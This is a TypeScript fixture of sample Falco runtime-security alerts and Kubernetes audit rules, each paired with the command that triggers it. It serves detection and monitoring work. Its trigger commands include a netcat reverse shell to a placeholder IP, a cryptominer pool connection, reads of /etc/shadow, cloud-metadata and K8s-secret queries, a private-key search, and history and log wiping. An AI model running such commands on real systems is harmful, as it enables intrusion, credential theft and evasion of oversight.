/** Rules of Falco's own rule sets that the estate's sensors fire, with their level, tags and what the process did. */
export type FalcoRule = {
  rule: string
  priority: 'Critical' | 'Error' | 'Warning' | 'Notice' | 'Informational'
  text: string
  tags: string[]
  process: string
  command: string
  fields?: Record<string, string | number>
}

const connection = (address: string, port: number) => ({
  'fd.name': `10.244.3.17:48122->${address}:${port}`,
  'fd.rip': address,
  'fd.rport': port,
  'fd.l4proto': 'tcp',
})
const rule = (
  name: string,
  priority: FalcoRule['priority'],
  tags: string,
  text: string,
  command: string,
  fields?: FalcoRule['fields'],
): FalcoRule => ({
  rule: name,
  priority,
  text,
  tags: ['maturity_stable', 'container', ...tags.split(' ')],
  process: (command.split(' ')[0] ?? '').split('/').at(-1) ?? '',
  command,
  ...(fields ? { fields } : {}),
})

export const falcoRules = {
  miner: rule(
    'Detect outbound connections to common miner pool ports',
    'Critical',
    'network mitre_impact T1496',
    'Connection to a port or host that mining pools use',
    '/tmp/.x/kdevtmpfsi -o pool.example:3333 -u 4Aworker',
    connection('198.51.100.77', 3333),
  ),
  dropped: rule(
    'Drop and execute new binary in container',
    'Critical',
    'process mitre_persistence TA0003',
    'A program that is not part of the image was started',
    '/tmp/.x/kdevtmpfsi',
  ),
  reverse: rule(
    'Redirect STDOUT/STDIN to Network Connection in Container',
    'Notice',
    'network process mitre_execution T1059',
    'Input and output of a shell lead to a network connection',
    'sh -i',
    connection('203.0.113.200', 4444),
  ),
  netcat: rule(
    'Netcat Remote Code Execution in Container',
    'Warning',
    'network process mitre_execution T1059',
    'Netcat was started with a program to run',
    'nc -e /bin/sh 203.0.113.200 4444',
  ),
  metadata: rule(
    'Contact cloud metadata service from container',
    'Notice',
    'network mitre_discovery T1565',
    'A container asked the metadata service of the cloud',
    'curl -s http://169.254.169.254/metadata/identity',
    connection('169.254.169.254', 80),
  ),
  shell: rule(
    'Terminal shell in container',
    'Notice',
    'shell mitre_execution T1059',
    'A shell with a terminal was opened in a container',
    'bash',
  ),
  shadow: rule(
    'Read sensitive file untrusted',
    'Warning',
    'filesystem mitre_credential_access T1555',
    'A file with secrets was read by a program that has no need to',
    'cat /etc/shadow',
    { 'fd.name': '/etc/shadow' },
  ),
  api: rule(
    'Contact K8S API Server From Container',
    'Notice',
    'network k8s mitre_discovery T1565',
    'A container talked to the API server without being known to',
    'curl -sk https://10.0.0.1/api/v1/secrets',
    connection('10.0.0.1', 443),
  ),
  keys: rule(
    'Search Private Keys or Passwords',
    'Warning',
    'process filesystem mitre_credential_access T1552.001',
    'A search for keys or passwords was started',
    'grep -r BEGIN RSA PRIVATE /',
  ),
  packages: rule(
    'Launch Package Management Process in Container',
    'Error',
    'process software_mgmt mitre_persistence T1505',
    'A package manager ran in a running container',
    'apt-get install -y tcpdump',
  ),
  packet: rule(
    'Packet socket created in container',
    'Notice',
    'network mitre_credential_access T1557.002',
    'A raw packet socket was opened',
    'tcpdump -i any',
  ),
  history: rule(
    'Delete or rename shell history',
    'Warning',
    'process filesystem mitre_defense_evasion T1070',
    'The history of a shell was removed',
    'rm -f /root/.bash_history',
    { 'fd.name': '/root/.bash_history' },
  ),
  logs: rule(
    'Clear Log Activities',
    'Warning',
    'filesystem mitre_defense_evasion T1070',
    'A log file was emptied',
    'truncate -s 0 /var/log/app.log',
    { 'fd.name': '/var/log/app.log' },
  ),
  etc: rule(
    'Write below etc',
    'Error',
    'filesystem mitre_persistence T1098',
    'A file below /etc was opened for writing',
    'sed -i s/a/b/ /etc/hosts',
    { 'fd.name': '/etc/hosts' },
  ),
  shm: rule(
    'Execution from /dev/shm',
    'Warning',
    'process mitre_execution T1059.004',
    'A program was started from shared memory',
    '/dev/shm/ld',
  ),
  copy: rule(
    'Launch Ingress Remote File Copy Tools in Container',
    'Notice',
    'network process mitre_command_and_control TA0011',
    'A tool that fetches files was started',
    'wget http://files.example/tool.sh',
  ),
  memfd: rule(
    'Fileless execution via memfd_create',
    'Critical',
    'process mitre_defense_evasion T1620',
    'A program was started from memory alone',
    'memfd:kthreadd',
  ),
} satisfies Record<string, FalcoRule>
export type FalcoRuleKey = keyof typeof falcoRules

const audit = (name: string, priority: FalcoRule['priority'], text: string) => ({
  rule: name,
  priority,
  text,
  tags: ['k8s'],
})
export const auditRules = {
  exec: audit('Attach/Exec Pod', 'Notice', 'A command was run in a pod'),
  admin: audit('Attach to cluster-admin Role', 'Warning', 'A binding to cluster-admin was made'),
  wildcard: audit('ClusterRole With Wildcard Created', 'Warning', 'A cluster role that allows everything was made'),
  nodePort: audit('Create NodePort Service', 'Warning', 'A service of type NodePort was made'),
  privileged: audit('Create Privileged Pod', 'Warning', 'A pod with a privileged container was made'),
  ephemeral: audit('EphemeralContainers Created', 'Notice', 'A debug container was added to a pod'),
  secret: audit('K8s Secret Get Unsuccessfully Tried', 'Warning', 'Reading a secret was refused'),
  noTls: audit(
    'Ingress Object without TLS Certificate Created',
    'Warning',
    'An ingress without a certificate was made',
  ),
}
export type AuditRuleKey = keyof typeof auditRules
